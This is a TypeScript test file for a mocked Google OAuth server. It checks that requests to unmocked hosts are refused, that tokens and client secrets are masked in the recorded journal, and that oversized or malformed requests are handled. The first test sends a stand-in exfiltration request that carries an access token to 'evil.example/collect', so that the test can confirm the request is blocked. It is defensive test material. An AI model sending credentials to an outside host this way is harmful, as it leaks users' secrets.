import { expect, test } from 'vitest'
import { openGoogle } from '../google/google.fixture.ts'

const form = { 'content-type': 'application/x-www-form-urlencoded' }

test('a host that is not mocked is a network error, refused and recorded', async () => {
  const google = openGoogle()
  const response = await google.respond(
    new Request('https://evil.example/collect?token=ya29.a-token-that-leaks'),
    'subject',
  )
  expect(response.type).toBe('error')
  expect(google.seen('http.request')[0]).toMatchObject({
    stream: 'elsewhere',
    fields: { origin: 'https://evil.example', path: '/collect', actor: 'subject' },
  })
  expect(google.seen('http.response')[0]!.fields).toMatchObject({ to: 'elsewhere#1', status: 0 })
})

test('plain HTTP to a mocked host is elsewhere', async () => {
  const google = openGoogle()
  expect((await google.respond(new Request('http://oauth2.googleapis.com/token'), 'subject')).type).toBe('error')
})

test('a path that Google has not is 404', async () => {
  const google = openGoogle()
  expect((await google.respond(new Request('https://oauth2.googleapis.com/token/'), 'subject')).status).toBe(404)
  expect(google.seen('http.request')[0]!.stream).toBe('elsewhere')
})

test('secrets stand in the journal as references, everywhere in the request', async () => {
  const google = openGoogle()
  const secret = 'GOCSPX-another-secret-1234'
  const token = 'ya29.Zq7tRk2wXv9LmB4nHs8PdYc3'
  const body = new URLSearchParams([
    ['code', '4/0AQ2vN8sKx4TbW7mZp9RcLd3F'],
    ['client_secret', secret],
    ['note', `see ${token}`],
    ['code', ''],
  ])
  const headers = { ...form, authorization: `Bearer ${token}`, cookie: 'a=Zk3mQ9xLr7; b', 'x-note': `${token}` }
  const request = { method: 'POST', body: String(body), headers }
  await google.respond(new Request(`https://oauth2.googleapis.com/token?q=${token}`, request), 'subject')
  const [recorded] = google.seen('http.request')
  expect(recorded!.fields.form!.map(([name, value]) => [name, typeof value === 'string' ? value : value.ref])).toEqual([
    ['code', 'authorization-code-1'],
    ['client_secret', 'client-secret-3'],
    ['note', 'see ‹access-token-1›'],
    ['code', ''],
  ])
  expect(recorded!.fields.headers).toEqual([
    ['authorization', 'Bearer ‹access-token-1›'],
    ['content-type', 'application/x-www-form-urlencoded'],
    ['cookie', 'a=‹cookie-1›; b'],
    ['x-note', '‹access-token-1›'],
  ])
  expect(google.secrets.scanner.scanText(JSON.stringify(google.sealed().observations))).toEqual([])
})

test('under plain the code_challenge is the verifier, and equal values share a reference', async () => {
  const google = openGoogle()
  const verifier = 'Zq7tRk2wXv9LmB4nHs8PdYc3JfGu6AeTo1iQy5rWzKx'
  const url = `https://accounts.google.com/o/oauth2/v2/auth?code_challenge=${verifier}&code_challenge_method=`
  for (const method of ['plain', 'S256']) await google.respond(new Request(url + method), 'user-agent')
  const values = google.seen('http.request').map(({ fields }) => fields.query[0]![1])
  expect(values[0]).toMatchObject({ ref: 'code-verifier-1' })
  expect(values[1]).toBe('‹code-verifier-1›')
})

test('the secret in Basic credentials is learned in its plain form', async () => {
  const google = openGoogle()
  const secret = 'a secret+with/odd%signs'
  const encoded = btoa(`id:${encodeURIComponent(secret).replaceAll('%20', '+')}`)
  await google.respond(
    new Request('https://oauth2.googleapis.com/token', { headers: { authorization: `Basic ${encoded}` } }),
    'subject',
  )
  expect(google.secrets.refer(secret)?.kind).toBe('client-secret')
  expect(google.seen('http.request')[0]!.fields.headers).toEqual([['authorization', 'Basic ‹client-secret-3›']])
})

test('the answer’s error is recorded, of JSON and of redirects', async () => {
  const google = openGoogle()
  const body = 'grant_type=client_credentials'
  await google.respond(
    new Request('https://oauth2.googleapis.com/token', { method: 'POST', headers: form, body }),
    'subject',
  )
  expect(google.seen('http.response')[0]!.fields).toEqual({
    endpoint: 'token-endpoint',
    to: 'token-endpoint#1',
    status: 400,
    contentType: 'application/json; charset=utf-8',
    error: 'unsupported_grant_type',
    description: 'Invalid grant_type: client_credentials',
  })
})

test.each([
  [414, 'target-too-long', `https://oauth2.googleapis.com/token?${'a'.repeat(20_000)}`, {}],
  [431, 'fields-too-large', 'https://oauth2.googleapis.com/token', { headers: { 'x-a': 'a'.repeat(40_000) } }],
  [413, 'content-too-large', 'https://oauth2.googleapis.com/token', { method: 'POST', body: 'a'.repeat(70_000) }],
] as const)('what is too long gets %d, and nothing of it is recorded', async (status, problem, url, init) => {
  const google = openGoogle()
  expect((await google.respond(new Request(url, init), 'subject')).status).toBe(status)
  expect(google.seen('http.request')).toEqual([])
  expect(google.seen('http.refused').map(({ fields }) => fields)).toEqual([{ problem, status }])
})

test.each([
  [400, 'half an escape in the path', 'https://oauth2.googleapis.com/%zz'],
  [200, 'half an escape in a query', 'https://accounts.google.com/.well-known/openid-configuration?a=%zz%E0%A4'],
  [200, 'a parameter twice', 'https://accounts.google.com/.well-known/openid-configuration?a=1&a=2'],
])('%d answers %s', async (status, _, url) => {
  expect((await openGoogle().respond(new Request(url), 'subject')).status).toBe(status)
})

test('HEAD is answered as GET without the content, and tells its length', async () => {
  const google = openGoogle()
  const [got, head] = await Promise.all(
    ['GET', 'HEAD'].map((method) =>
      google.respond(new Request('https://www.googleapis.com/oauth2/v3/certs', { method }), 'subject'),
    ),
  )
  expect([head!.status, await head!.text()]).toEqual([200, ''])
  expect(head!.headers.get('content-length')).toBe(String((await got!.text()).length))
})

test('names are masked as values are: a careless client puts a secret where none belongs', async () => {
  const google = openGoogle()
  const token = 'k3m9xlr7zq7trk2wxv9lmb4nhs8'
  google.secrets.learn('access-token', token)
  const headers = { cookie: `${token}; ${token}=1; a`, [`x-${token}`]: 'b' }
  await google.respond(new Request('https://oauth2.googleapis.com/token', { headers }), 'subject')
  const mark = '‹access-token-1›'
  expect(google.seen('http.request')[0]!.fields.headers).toEqual([
    ['cookie', `${mark}; ${mark}=‹cookie-1›; a`],
    [`x-${mark}`, 'b'],
  ])
})
